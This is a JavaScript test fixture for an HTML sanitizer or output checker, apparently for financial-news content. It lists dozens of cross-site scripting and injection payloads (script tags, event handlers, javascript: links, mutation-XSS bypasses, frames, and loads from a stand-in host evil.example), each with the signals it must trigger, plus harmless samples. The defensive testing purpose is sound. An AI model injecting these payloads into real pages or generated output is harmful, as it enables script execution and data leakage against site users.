// The negative control: raw attacks, each with the signals that it must raise. If the check misses
// one of these, it would also miss faults in outputs.
//
// `document` marks attacks that have no effect when they are set by `innerHTML`. All others must
// raise signals in both ways.

const run = 'alert(1)';

/** Attacks that run a script or compile a handler. */
const SCRIPTS = [
  ['script', `<script>${run}</script>`, 'script csp model', 'document'],
  ['script-after-text', `<p>净利润增长12%。</p><ScRiPt/x>${run}</sCrIpT >`, 'script csp model', 'document'],
  ['script-with-source', '<script src="https://evil.example/x.js"></script>', 'request csp model', 'document'],
  ['script-module', `<script type="module">${run}</script>`, 'script csp model', 'document'],
  ['script-in-svg', `<svg><script>${run}</script></svg>`, 'script csp model', 'document'],
  ['script-breaks-out', `</section><script>${run}</script>`, 'script csp model mutation', 'document'],
  ['image-error', `<img src="x" onerror="${run}">`, 'handler script model'],
  ['image-load', `<img src="https://img.example/a.png" alt="" onload="${run}">`, 'handler script model'],
  ['image-no-quotes', `<img src=x onerror=${run}>`, 'handler script model mutation'],
  ['svg-load', `<svg onload="${run}"></svg>`, 'handler script model'],
  ['body-load', `<body onload="${run}">`, 'handler script mutation', 'document'],
  ['hover', `<p onmouseover="${run}">季报</p>`, 'handler script model'],
  ['quiet-handler', '<p onmouseover="void 0">季报</p>', 'handler model'],
  ['unknown-event', '<p onslotchange="void 0">季报</p>', 'handler model'],
  ['focus', `<input autofocus onfocus="${run}">`, 'handler script model'],
  ['toggle', `<details open ontoggle="${run}"><p>x</p></details>`, 'handler script model'],
  ['pointer', `<b onpointerrawupdate="${run}">x</b>`, 'handler script model'],
  ['media-error', `<video><source onerror="${run}" src="x"></video>`, 'handler script model request'],
  ['animation', `<style>@keyframes k{}</style><p style="animation:k 1s" onanimationstart="${run}">x</p>`, 'handler script csp model'],
  ['animate-begin', `<svg><animate onbegin="${run}" attributeName="x" dur="1s"/></svg>`, 'handler script model'],
  ['clobbered-form', `<form onclick="${run}"><input name="attributes"><input name="nodeName"></form>`, 'handler script model'],
];

/** Attacks that run when somebody clicks or submits. */
const CLICKS = [
  ['link', `<a href="javascript:${run}">公告</a>`, 'csp script model'],
  ['link-with-tab', `<a href="java&Tab;script:${run}">公告</a>`, 'csp script model'],
  ['link-with-control', `<a href="&#1;javascript:${run}">公告</a>`, 'csp script model'],
  ['link-mixed-case', `<a href="JaVaScRiPt:${run}">公告</a>`, 'csp script model'],
  ['link-in-svg', `<svg><a xlink:href="javascript:${run}"><text y="9">公告</text></a></svg>`, 'csp script model'],
  ['link-in-math', `<math><mrow href="javascript:${run}">公告</mrow></math>`, 'model'],
  ['link-set-by-animation', `<svg><a><set attributeName="href" to="javascript:${run}"/><text y="9">公告</text></a></svg>`, 'model'],
  ['area', `<map name="m"><area href="javascript:${run}" shape="rect" coords="0,0,9,9"></map>`, 'csp script model'],
  ['form-action', `<form action="javascript:${run}"><button>订阅</button></form>`, 'csp script model'],
  ['button-action', `<form><button formaction="javascript:${run}">订阅</button></form>`, 'csp script model'],
  ['form-abroad', '<form action="https://evil.example/"><button>订阅</button></form>', 'csp navigation model'],
  ['link-vbscript', '<a href="vbscript:x" rel="noopener noreferrer">公告</a>', 'model'],
  ['link-data', '<a href="data:text/html,x" rel="noopener noreferrer">公告</a>', 'model'],
  ['link-credentials', '<a href="https://bank.example@evil.example/" rel="noopener noreferrer">公告</a>', 'model'],
  ['link-relative', '<a href="/login" rel="noopener noreferrer">公告</a>', 'navigation model'],
  ['link-open', '<a href="https://news.example/" target="_blank" rel="opener">公告</a>', 'model'],
  ['link-ping', '<a href="https://news.example/" ping="https://evil.example/" rel="noopener noreferrer">公告</a>', 'model'],
];

/** Attacks that load something, make a frame or navigate without a click. */
const LOADS = [
  ['frame', '<iframe src="https://evil.example/"></iframe>', 'frame model'],
  ['frame-with-document', `<iframe srcdoc="&lt;script>${run}&lt;/script>"></iframe>`, 'frame script model'],
  ['frame-with-script', `<iframe src="javascript:${run}"></iframe>`, 'frame csp model'],
  ['object', '<object data="https://evil.example/x"></object>', 'frame csp model'],
  ['embed', '<embed src="https://evil.example/x">', 'frame csp model'],
  ['refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example/">', 'navigation model'],
  ['refresh-to-script', '<meta http-equiv="refresh" content="0;url=data:text/html,x">', 'model'],
  ['base', '<base href="https://evil.example/">', 'csp model'],
  ['style-sheet', '<link rel="stylesheet" href="https://evil.example/x.css">', 'request csp model'],
  ['style-import', '<style>@import "https://evil.example/x.css";</style>', 'request csp model'],
  ['style-attribute', '<p style="background:url(https://evil.example/x.png)">x</p>', 'csp model'],
  ['font', '<style>@font-face{font-family:f;src:url(https://evil.example/f)}p{font-family:f}</style><p>x</p>', 'request csp model'],
  ['audio', '<audio src="https://evil.example/x.mp3" autoplay></audio>', 'request csp model'],
  ['track', '<video><track default src="https://evil.example/x.vtt"></video>', 'model'],
  ['image-relative', '<img src="/x.png" alt="">', 'request model'],
  ['image-data', '<img src="data:image/svg+xml,%3Csvg/%3E" alt="">', 'csp model'],
  ['image-blob', '<img src="blob:https://evil.example/1" alt="">', 'csp model'],
  ['image-set-to-data', '<img srcset="data:image/svg+xml,%3Csvg/%3E 1x" alt="">', 'csp model'],
  ['image-set-to-ftp', '<img srcset="ftp://evil.example/x.png 1x" alt="">', 'csp model'],
  ['picture', '<picture><source srcset="https://evil.example/x.png"><img src="https://img.example/a.png" alt=""></picture>', 'model'],
  ['svg-use', '<svg><use href="https://evil.example/x.svg#a"/></svg>', 'model'],
  ['svg-image', '<svg><image href="data:image/png,x"/></svg>', 'csp model'],
];

/** Markup that a browser changes, or that affects the page around it. */
const MUTATIONS = [
  ['mutation-mglyph', `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`, 'mutation model'],
  ['mutation-form', `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`, 'mutation model'],
  ['mutation-noscript', `<noscript><p title="</noscript><img src=x onerror=${run}>">`, 'mutation model handler script'],
  ['mutation-svg-style', `<svg></p><style><a id="</style><img src=1 onerror=${run}>">`, 'mutation model handler script'],
  ['open-paragraph', '<p>季报', 'mutation'],
  ['open-comment', '<p>季报</p><!-- ', 'mutation model'],
  ['open-raw-text', '<p>季报</p><xmp>', 'mutation model'],
  ['plain-text', '<p>季报</p><plaintext>', 'mutation model'],
  ['open-quote', '<p>季报</p><a href="https://news.example/', 'mutation'],
  ['select', '<select><option>x<p>y</select>', 'mutation model'],
  ['leaves-its-element', '</div></section></td></li></blockquote><p>季报</p>', 'mutation'],
  ['text-in-table', '<table>季报<tbody><tr><td>x</td></tr></tbody></table>', 'mutation'],
  ['link-in-link', '<a href="https://a.example/">x<a href="https://b.example/">y</a></a>', 'mutation'],
  ['no-tbody', '<table><tr><td>x</td></tr></table>', 'mutation'],
  ['newline-in-pre', '<pre>\nx</pre>', 'mutation'],
  ['carriage-return', '<p>x\ry</p>', 'mutation'],
  ['bare-ampersand', '<p>x & y</p>', 'mutation'],
  ['reference', '<p>&copy;</p>', 'mutation'],
  ['depth', '<blockquote>'.repeat(600) + '<p>x</p>' + '</blockquote>'.repeat(600), 'mutation'],
  ['shadow-root', `<div><template shadowrootmode="open"><img src=x onerror=${run}></template></div>`, 'model handler script', 'document'],
  ['template', `<template><img src=x onerror=${run}></template>`, 'model'],
  ['custom-element', '<p is="x-y">x</p>', 'model'],
  ['identifier', '<p id="securities">x</p>', 'model'],
  ['class', '<p class="banner">x</p>', 'model'],
  ['comment', '<!-- x -->', 'model'],
  ['other-rel', '<a href="https://news.example/" rel="author">x</a>', 'model'],
];

/** Every attack: its name, its markup, the signals that it must raise, and the ways of loading. */
export const ATTACKS = [...SCRIPTS, ...CLICKS, ...LOADS, ...MUTATIONS].map(([id, html, must, only]) => ({
  id,
  html,
  must: must.split(' '),
  modes: only ? [only] : ['innerHTML', 'document'],
}));

/** Outputs that must raise no signal, so that a check that always fails is noticed. */
export const HARMLESS = [
  '<p>长江铝业公布一季报：净利润同比增长12%。</p>\n<h2>海外订单翻倍</h2>\n',
  '<p>见<a href="https://news.example/1.html" rel="noopener noreferrer">公告</a>，或写信给' +
    '<a href="mailto:ir@example.com" rel="noopener noreferrer">公司</a>。</p>\n',
  '<figure><img src="https://img.example/a.png" alt="产线" width="552"><figcaption>图1：<strong>产线</strong></figcaption></figure>\n',
  '<table>\n<thead>\n<tr><th colspan="2">营收</th></tr>\n</thead>\n<tbody>\n<tr><td>1</td><td>2&nbsp;&amp;&nbsp;3</td></tr>\n</tbody>\n</table>\n',
  '<ol start="3">\n<li>x<sup>2</sup><br>y</li>\n</ol>\n<blockquote>\n<pre>a &lt; b</pre>\n<hr>\n</blockquote>\n',
];
